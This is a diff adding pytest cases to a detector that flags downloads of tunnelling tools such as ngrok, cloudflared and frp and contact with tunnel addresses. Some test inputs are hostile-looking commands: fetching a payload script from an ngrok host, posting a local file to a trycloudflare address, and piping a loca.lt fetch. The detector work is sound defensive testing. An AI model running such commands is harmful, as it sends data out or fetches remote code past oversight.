@@ -202,3 +202,41 @@ def test_shell_wired_to_dev_tcp(command):
 ])
 def test_dev_tcp_without_a_shell(command, expected):
     assert alerts(command) == expected
+
+
+@pytest.mark.parametrize("command", [
+    "wget https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-linux-amd64.tgz",
+    "curl -L https://github.com/cloudflare/cloudflared/releases/latest/download/cloudflared-linux-amd64 -o /tmp/cf",
+    "wget https://github.com/fatedier/frp/releases/download/v0.58.0/frp_0.58.0_linux_amd64.tar.gz",
+    "curl -o /tmp/x 'https://example.com/download?file=ngrok.zip'",
+    "wget -O /usr/local/bin/cloudflared https://example.com/c",           # the file it writes is the tool
+])
+def test_tunnelling_tool_download(command):
+    assert "tunnelling_tool_download" in alerts(command)
+
+
+@pytest.mark.parametrize("command", [
+    'curl -H "Authorization: Bearer $NGROK_API_KEY" -H "Ngrok-Version: 2" https://api.ngrok.com/tunnels',
+    "curl https://abc.ngrok-free.app/status",                             # a tunnel's address: its own rule
+])
+def test_tunnelling_tool_download_wants_the_tool_as_a_file(command):
+    assert "tunnelling_tool_download" not in alerts(command)
+
+
+@pytest.mark.parametrize("command", [
+    "curl https://abc.ngrok-free.app/status",
+    "curl -s https://7c3a-203-0-113-5.ngrok.io/payload.sh -o /tmp/p.sh",
+    "curl -X POST -d @notes.txt https://quiet-fox.trycloudflare.com/u",
+    "wget -qO- http://x.loca.lt/c",
+])
+def test_tunnel_address_contacted(command):
+    assert "tunnel_address_contacted" in alerts(command)
+
+
+@pytest.mark.parametrize("command", [
+    "curl https://ngrok.com/docs",
+    'curl -H "Authorization: Bearer $NGROK_API_KEY" https://api.ngrok.com/tunnels',
+    "wget -q https://bin.equinox.io/c/bNyj1mQVY4c/ngrok-v3-stable-linux-amd64.tgz",
+])
+def test_tunnel_vendor_sites_are_no_tunnel_address(command):
+    assert "tunnel_address_contacted" not in alerts(command)
